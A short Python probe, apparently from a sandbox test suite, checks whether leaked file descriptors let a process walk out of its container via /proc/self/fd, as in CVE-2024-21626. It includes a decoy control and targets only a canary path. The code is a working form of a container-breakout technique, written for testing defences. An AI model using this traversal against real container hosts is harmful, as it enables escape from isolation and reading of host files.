"""Use a descriptor of the host's that was left open: walk out through a folder, read a file.

origin: CVE-2024-21626 (runc's /proc/self/fd/7), CVE-2016-9962
stopped by: close_range before the exec; descriptors are made close-on-exec
control: it finds a folder that it opened itself
"""

import os
import stat

from attempt import attempt, unless


def folders():
    for number in range(3, 4096):
        try:
            if stat.S_ISDIR(os.fstat(number).st_mode):
                yield number
        except OSError:
            continue


decoy = os.open("/tmp", os.O_RDONLY)
assert decoy in list(folders()), "the search is worth nothing"
os.close(decoy)
with attempt("a folder that was left open"):
    unless(list(folders()), "there is none")
for number in range(3, 64):
    with attempt(f"descriptor {number} as a way out"):
        os.stat(f"/proc/self/fd/{number}/../../../../../..{os.environ['CANARY_PATH']}")
